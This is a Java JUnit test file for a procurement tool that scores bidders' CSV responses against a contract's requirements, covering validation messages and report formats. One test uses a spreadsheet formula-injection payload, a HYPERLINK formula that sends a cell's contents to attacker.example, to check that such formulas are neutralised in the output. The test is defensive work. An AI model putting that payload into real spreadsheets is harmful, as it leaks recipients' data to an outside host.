package cspec.procurement.score;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cspec.procurement.Fixtures;
import cspec.procurement.matrix.Column;
import cspec.procurement.matrix.CsvMatrix;
import cspec.procurement.matrix.ResponseSheet;
import cspec.procurement.model.ContractView;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;

class ScoringTest {
    private static final ContractView CONTRACT = Fixtures.view("tender-contract.cspec");

    private static BidderScore score(String response) {
        String name = response.replace(".csv", "");
        return Scoring.score(CONTRACT, CsvMatrix.read(Fixtures.text("responses/" + response), response, name));
    }

    private static List<String> problems(BidderScore score) {
        return score.problems().stream().map(p -> p.describe(score.file())).toList();
    }

    @Test
    void aBidderWhoMeetsEveryMandatoryRequirementQualifiesWithItsPointsAndCommitments() {
        BidderScore acme = score("acme.csv");
        assertEquals(BidderScore.Result.QUALIFIED, acme.result(), problems(acme).toString());
        assertEquals(3, acme.mandatoryMet());
        assertEquals(new BigDecimal("25"), acme.points());
        assertEquals(new BigDecimal("30"), acme.maxPoints());
        assertEquals(List.of(new BidderScore.Commitment("MON-5", "2028-01-01", true, "Complies")), acme.commitments());
    }

    @Test
    void theVerdictDecidesAndWhereItIsEmptyTheBiddersOwnAnswerStands() {
        BidderScore beta = score("beta.csv");
        assertEquals(BidderScore.Result.DISQUALIFIED, beta.result());
        // MON-1: the bidder said "Does not comply", the evaluator's "Complies" decides. MON-2: "Partially" on a must
        // is not met. SLA-1: the bidder said "Complies", the evaluator's "Does not comply" decides.
        assertEquals(List.of("MON-2 (answer: Partially complies)", "SLA-1 (verdict: Does not comply)"), beta.unmet());
        assertEquals(1, beta.mandatoryMet());
        assertEquals(new BigDecimal("10"), beta.points());
        assertEquals(0, beta.committedCount());
    }

    @Test
    void unknownIdsMissingRowsAndWrongAnswersAreReportedRowByRowAndNeverScored() {
        BidderScore bad = score("bad-rows.csv");
        assertEquals(BidderScore.Result.INCOMPLETE, bad.result());
        assertNull(bad.points(), "an incomplete response got a total");
        assertEquals(List.of(
                "bad-rows.csv, line 2 (MON-1): answer \"Yes\" is not one of Complies, Partially complies or Does not comply.",
                "bad-rows.csv, line 2 (MON-1): points \"3\" on a mandatory requirement, which has no weight; leave Points empty.",
                "bad-rows.csv, line 4 (MON-3): points 12 is outside 0 to 10, the weight of MON-3.",
                "bad-rows.csv, line 9 (MON-9): the contract has no requirement MON-9; was the ID changed or the row added?",
                "bad-rows.csv, line 10 (Q-1): Q-1 was already answered on line 7; keep one row per requirement.",
                "bad-rows.csv, line 11: the row has no ID; rows are matched by ID, so it cannot be scored.",
                "bad-rows.csv (MON-4): no row for MON-4 (Rated); every requirement of the matrix needs its row back."),
                problems(bad));
    }

    @Test
    void anAnswerToAnotherVersionOfTheRequirementsIsRecognisedAndNotScored() {
        BidderScore old = score("other-version.csv");
        assertEquals(BidderScore.Result.INCOMPLETE, old.result());
        assertEquals(1, old.problems().size());
        assertTrue(problems(old).get(0).contains("answers requirements 00000000deadbeef (version 0.9), but the contract's are "
                + CONTRACT.requirementsHash() + " (version 1.0)"), problems(old).toString());
    }

    @Test
    void formulasInAResponseAreTextNeverEvaluatedAndAreNeutralisedInTheScoreCsv() {
        ResponseSheet sheet = CsvMatrix.read(Fixtures.text("responses/formulas.csv"), "formulas.csv", "=HYPERLINK(\"x\")");
        assertEquals("=HYPERLINK(\"http://attacker.example/steal?x=\"&A1,\"click\")", sheet.rows().get(0).cell(Column.EXPLANATION));
        BidderScore hostile = Scoring.score(CONTRACT, sheet);
        assertEquals(List.of(
                "formulas.csv, line 3 (MON-2): answer \"@SUM(1+1)\" is not one of Complies, Partially complies or Does not comply.",
                "formulas.csv, line 4 (MON-3): points \"=1+1\" is not a number."), problems(hostile));
        String csv = ScoreReport.write(ScoreReport.Format.CSV, CONTRACT, List.of(hostile));
        // The bidder's name came from the response; a spreadsheet opening the score must show it, not run it.
        assertTrue(csv.lines().skip(1).allMatch(line -> line.startsWith("\"'=HYPERLINK")), csv);
    }

    @Test
    void theReportComesAsATableCsvAndJson() {
        List<BidderScore> both = List.of(score("acme.csv"), score("beta.csv"));
        String table = ScoreReport.write(ScoreReport.Format.TABLE, CONTRACT, both);
        assertTrue(table.contains("acme    qualified     3/3            25 / 30  1/1"), table);
        assertTrue(table.contains("mandatory not met: MON-2 (answer: Partially complies)"), table);
        String json = ScoreReport.write(ScoreReport.Format.JSON, CONTRACT, both);
        var root = com.google.gson.JsonParser.parseString(json).getAsJsonObject();
        assertEquals("disqualified", root.getAsJsonArray("bidders").get(1).getAsJsonObject().get("result").getAsString());
        assertEquals(25, root.getAsJsonArray("bidders").get(0).getAsJsonObject().get("points").getAsInt());
        String csv = ScoreReport.write(ScoreReport.Format.CSV, CONTRACT, both);
        assertEquals(3, csv.lines().count());
    }
}
